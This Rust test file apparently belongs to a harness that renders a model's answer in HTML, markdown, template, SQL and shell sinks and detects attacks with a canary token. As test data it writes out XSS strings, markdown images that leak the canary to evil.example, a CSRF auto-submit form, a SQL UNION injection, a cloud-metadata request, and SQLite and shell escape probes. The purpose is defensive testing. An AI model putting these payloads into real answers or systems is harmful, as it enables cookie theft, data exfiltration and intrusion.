use std::io::{Read as _, Write as _};
use std::net::TcpStream;

use super::page::Page;
use super::*;

fn canary() -> Canary {
    Canary { token: "k3n9wq7d2m5xz8ra".to_owned(), a: 10_007, b: 10_009 }
}

/// Sends one request by hand.
fn send(collector: &Collector, request: &str) -> String {
    let mut stream = TcpStream::connect(collector.address()).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut reply = String::new();
    stream.read_to_string(&mut reply).unwrap();
    reply
}

fn served(collector: &Collector) -> (Page, String) {
    let page = page::sinks("hello", &canary().token, &collector.base()).remove(0);
    collector.serve(&page);
    let reply = send(collector, &format!("GET /page/{} HTTP/1.1\r\nHost: {}\r\n\r\n", page.id, collector.address()));
    assert!(reply.contains("hello"), "{reply}");
    let cookie =
        reply.lines().find_map(|line| line.strip_prefix("Set-Cookie: ")).unwrap().split(';').next().unwrap().to_owned();
    (page, cookie)
}

fn kinds(hits: &[SinkHit]) -> Vec<SinkKind> {
    hits.iter().map(|hit| hit.kind).collect()
}

#[test]
fn canaries_are_of_two_primes_and_differ() {
    let mut rng = fastrand::Rng::with_seed(1);
    let (one, two) = (Canary::new(&mut rng), Canary::new(&mut rng));
    assert_ne!(one, two);
    assert_eq!(one.token.len(), 16);
    for n in [one.a, one.b] {
        assert!(n > 10_000 && (2..n).all(|d| n % d != 0));
    }
}

#[test]
fn the_collector_tells_requests_apart() {
    let collector = Collector::start().unwrap();
    let (page, cookie) = served(&collector);
    let host = collector.address();
    let get =
        |target: &str, more: &str| send(&collector, &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"));
    let with_cookie = format!("Cookie: {cookie}\r\n");
    let verdicts = |request: &dyn Fn()| {
        collector.take();
        request();
        kinds(&collector::classify(&page, &canary().token, &collector.take()))
    };
    assert_eq!(verdicts(&|| drop(get("/account/delete", &with_cookie))), [SinkKind::Csrf]);
    assert_eq!(verdicts(&|| drop(get("/account/delete", ""))), []);
    assert_eq!(verdicts(&|| drop(get("/internal/metadata", ""))), [SinkKind::Ssrf]);
    assert_eq!(verdicts(&|| drop(get("/x.png?d=k3n9wq7d2m5xz8ra", ""))), [SinkKind::MarkdownExfil]);
    assert_eq!(verdicts(&|| drop(get("/x.png?d=azNuOXdxN2QybTV4ejhyYQ==", ""))), [SinkKind::MarkdownExfil]);
    assert_eq!(verdicts(&|| drop(get("/x.png?d=other", ""))), []);
    assert_eq!(verdicts(&|| drop(get("http://169.254.169.254/latest", ""))), [SinkKind::Ssrf]);
    assert_eq!(
        verdicts(&|| drop(get(&format!("/hook/{}/{}?name=alert&value=1", page.id, page.key), ""))),
        [SinkKind::Xss]
    );
    // A picture in an answer that points at the hook does not know the key.
    assert_eq!(verdicts(&|| drop(get(&format!("/hook/{}/guess?name=alert&value=1", page.id), ""))), []);
    let post = || {
        let body = "secret=k3n9wq7d2m5xz8ra";
        send(
            &collector,
            &format!("POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\r\n{body}", body.len()),
        );
    };
    assert_eq!(verdicts(&post), [SinkKind::MarkdownExfil]);
    assert!(
        send(&collector, "CONNECT k3n9wq7d2m5xz8ra.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
            .starts_with("HTTP/1.1 403")
    );
    assert_eq!(kinds(&collector::classify(&page, &canary().token, &collector.take())), [SinkKind::MarkdownExfil]);
}

#[test]
fn garbage_does_not_stop_the_collector() {
    let collector = Collector::start().unwrap();
    for garbage in [
        "\r\n\r\n",
        "GET\r\n\r\n",
        "\u{0}\u{1}\r\n\r\n",
        "GET /%zz%4 HTTP/1.1\r\nCookie\r\n\r\n",
        "GET http://é HTTP/1.1\r\n\r\n",
    ] {
        send(&collector, garbage);
    }
    served(&collector);
    assert_eq!(collector.take().len(), 6);
}

#[test]
fn pages_differ_in_what_they_let_through() {
    let pages = page::sinks("a \"b\" <i>c</i> [d](javascript:e)", "token", "http://127.0.0.1:1");
    let html = |sink: &str| {
        let page = pages.iter().find(|page| page.sink == sink).unwrap();
        page.html.split("<main>").nth(1).unwrap().split("</main>").next().unwrap().trim().to_owned()
    };
    assert_eq!(pages.len(), page::SINKS.len());
    assert_eq!(html("raw_html"), "a \"b\" <i>c</i> [d](javascript:e)");
    assert_eq!(html("markdown_html"), "<p>a \"b\" <i>c</i> <a href=\"javascript:e\">d</a></p>");
    assert_eq!(html("markdown"), "<p>a \"b\" &lt;i&gt;c&lt;/i&gt; <a href=\"javascript:e\">d</a></p>");
    assert_eq!(html("attribute"), "<input name=\"q\" value=\"a \"b\" <i>c</i> [d](javascript:e)\">");
    assert!(html("script_string").starts_with("<script>var reply = \"a \"b\" <i>c</i>"));
    assert!(html("url_href").starts_with("<a id=\"link\" href=\"a &quot;b&quot; &lt;i&gt;"));
    let fenced = page::sinks("```js\njavascript:alert(1)\n```", "token", "http://127.0.0.1:1");
    assert!(fenced[5].html.contains("href=\"javascript:alert(1)\""));
    let ids: std::collections::BTreeSet<&str> = pages.iter().chain(&fenced).map(|page| page.id.as_str()).collect();
    assert_eq!(ids.len(), 12);
}

#[test]
fn a_template_evaluates_arithmetic_and_nothing_else() {
    let hit = template::run("Sure: {{ 10007 * 10009 }}", &canary()).unwrap();
    assert_eq!((hit.kind, hit.evidence.as_str()), (SinkKind::Ssti, "{{ 10007 * 10009 }} became 100160063"));
    for harmless in [
        "10007*10009",
        "{{ 100160063 }}",
        "{{ 10007 + 10009 }}",
        "{{ 'a' * 10007*10009 }}",
        "{{",
        "{{ 9 ** 999999 }}",
        "{{ 1/0 }}",
        "{{ (((((( }}",
        "{{}}",
        "}}{{",
    ] {
        assert_eq!(template::run(harmless, &canary()), None, "{harmless}");
    }
}

#[test]
fn sql_is_run_without_files_or_shell() {
    let time = Duration::from_secs(5);
    let union = match sql::value("x' UNION SELECT 'hit', 10007*10009 --", &canary(), time) {
        Ok(hit) => hit.unwrap(),
        Err(reason) => return println!("skipped: {reason}"),
    };
    assert_eq!((union.kind, union.sink), (SinkKind::Sqli, "sql_value"));
    assert!(union.evidence.ends_with("returned hit|100160063"), "{}", union.evidence);
    assert!(sql::query("```sql\nSELECT 10007 * 10009;\n```", &canary(), time).unwrap().is_some());
    assert_eq!(sql::value("lin", &canary(), time), Ok(None));
    assert_eq!(sql::value("it's 10007*10009", &canary(), time), Ok(None));
    let marker = std::env::temp_dir().join(format!("menshen-sql-{}", fastrand::u64(..)));
    for escape in [".shell touch ", ".once ", ".output ", ".log ", "ATTACH '"] {
        let _ = sql::query(&format!("{escape}{}\n", marker.display()), &canary(), time);
        assert!(!marker.exists(), "{escape}");
    }
    // A query that never ends is stopped.
    let endless = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n;";
    assert_eq!(sql::query(endless, &canary(), Duration::from_millis(500)), Ok(None));
}

#[test]
fn code_runs_in_a_sandbox_without_network_or_files() {
    // Long, so that a busy machine is no failure; what works ends long before.
    let run = |code: &str| shell::run(code, &canary(), Duration::from_secs(60));
    let hit = match run("```sh\necho $((10007 * 10009))\n```") {
        Ok(hit) => hit.unwrap(),
        Err(reason) => return println!("skipped: {reason}"),
    };
    assert_eq!((hit.kind, hit.sink), (SinkKind::Rce, "shell"));
    assert_eq!(run("echo $((10007 * 10009))"), Ok(None));
    assert_eq!(run("```sh\necho 10007 x 10009\n```"), Ok(None));
    let marker = std::env::temp_dir().join(format!("menshen-shell-{}", fastrand::u64(..)));
    let code = format!(
        "```sh\ntouch {} /usr/x; [ -e /etc/passwd ] || [ -e /root ] || [ $(ls /proc/[0-9]* -d | wc -l) -gt 6 ] || echo $((10007 * 10009))\n```",
        marker.display()
    );
    assert!(run(&code).unwrap().is_some(), "something of this machine is seen");
    assert!(!marker.exists());
    assert_eq!(shell::run("```sh\nwhile :; do :; done\n```", &canary(), Duration::from_millis(700)), Ok(None));
    if std::path::Path::new("/usr/bin/python3").exists() {
        let python = "```python\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), 1)\nexcept OSError:\n    print(10007 * 10009)\n```";
        let collector = Collector::start().unwrap();
        let python = python.replace("PORT", &collector.address().port().to_string());
        assert!(run(&python).unwrap().is_some());
        assert!(collector.take().is_empty());
    }
}

#[test]
fn code_blocks_are_found_with_their_language() {
    assert_eq!(
        code_blocks("a\n```Bash x\nb\n```\nc\n~~~\nd\n~~~"),
        [("bash".to_owned(), "b\n".to_owned()), (String::new(), "d\n".to_owned())]
    );
    assert!(code_blocks("    indented\n").is_empty());
}

/// What these pages of an answer show in a real browser. `None`: there is none.
fn browsed(answer: &str, sinks: &[&str], collector: &Collector) -> Option<Vec<SinkHit>> {
    let mut pages = page::sinks(answer, &canary().token, &collector.base());
    pages.retain(|page| sinks.contains(&page.sink));
    assert_eq!(pages.len(), sinks.len());
    let limits = chromium::Limits { time: Duration::from_secs(60), ..chromium::Limits::default() };
    let mut hits = Vec::new();
    for (page, outcome) in pages.iter().zip(chromium::run(&pages, collector, &limits)) {
        match outcome {
            Ok(seen) => hits.extend(collector::classify(page, &canary().token, &seen)),
            Err(reason) => {
                assert!(reason.contains("not installed"), "{}: {reason}", page.sink);
                println!("skipped: {reason}");
                return None;
            }
        }
    }
    Some(hits)
}

fn sinks_of(hits: &[SinkHit], kind: SinkKind) -> Vec<&'static str> {
    let mut sinks: Vec<_> = hits.iter().filter(|hit| hit.kind == kind).map(|hit| hit.sink).collect();
    sinks.sort_unstable();
    sinks.dedup();
    sinks
}

#[test]
fn a_browser_shows_which_sinks_an_answer_gets_through() {
    let collector = Collector::start().unwrap();
    let base = collector.base();
    let harmless = "Hello, **world**. 1 < 2 & *three*. See https://example.com/.";
    let Some(hits) = browsed(harmless, &["raw_html", "script_string"], &collector) else { return };
    assert_eq!(hits, []);
    let browsed = |answer: &str, sinks: &[&str]| browsed(answer, sinks, &collector).unwrap();

    let hits = browsed("<script>alert('k3n9wq7d2m5xz8ra')</script>", &["markdown_html", "markdown"]);
    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["markdown_html"], "{hits:#?}");
    assert_eq!(hits[0].evidence, "hook alert(\"k3n9wq7d2m5xz8ra\") fired");

    let hits = browsed("\" autofocus onfocus=\"alert(1)", &["attribute"]);
    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["attribute"], "{hits:#?}");

    let hits = browsed("\"; fetch('/x'); //", &["script_string"]);
    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["script_string"], "{hits:#?}");

    let hits = browsed("javascript:alert(document.cookie)", &["url_href"]);
    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["url_href"], "{hits:#?}");

    let images = format!(
        "![a](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra) ![b](https://evil.example/d.png?d=k3n9wq7d2m5xz8ra) \
         ![c](http://evil.example/e.png) ![d]({base}/account/transfer?to=x) ![e]({base}/internal/status)"
    );
    let hits = browsed(&images, &["markdown"]);
    assert_eq!(sinks_of(&hits, SinkKind::Xss).len(), 0, "{hits:#?}");
    let lines: Vec<&str> =
        hits.iter().filter(|hit| hit.kind == SinkKind::MarkdownExfil).map(|hit| hit.evidence.as_str()).collect();
    assert!(lines.contains(&"GET http://evil.example/c.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
    assert!(lines.contains(&"tried to load https://evil.example/d.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
    assert!(!lines.iter().any(|line| line.contains("e.png")), "{hits:#?}");
    for (kind, path) in [(SinkKind::Csrf, "/account/transfer"), (SinkKind::Ssrf, "/internal/status")] {
        assert!(hits.iter().any(|hit| hit.kind == kind && hit.evidence.contains(path)), "{hits:#?}");
    }

    let form = format!("<form id=f method=post action=\"{base}/account/delete\"></form><script>f.submit()</script>");
    let hits = browsed(&form, &["raw_html"]);
    assert!(hits.iter().any(|hit| hit.kind == SinkKind::Csrf && hit.evidence.starts_with("POST ")), "{hits:#?}");
}

#[test]
fn a_browser_that_is_not_there_is_a_sink_that_was_not_executed() {
    let collector = Collector::start().unwrap();
    let settings = Settings { chromium: Some("no-such-browser".into()), shell: false, ..Settings::default() };
    let report = run("{{ 10007 * 10009 }}", &canary(), &collector, &settings);
    assert!(
        page::SINKS
            .iter()
            .all(|sink| report.not_executed.iter().any(|(name, why)| name == sink && why.contains("not installed")))
    );
    assert!(report.not_executed.contains(&("shell", "switched off".to_owned())));
    assert_eq!(sinks_of(&report.hits, SinkKind::Ssti), ["template"]);
}
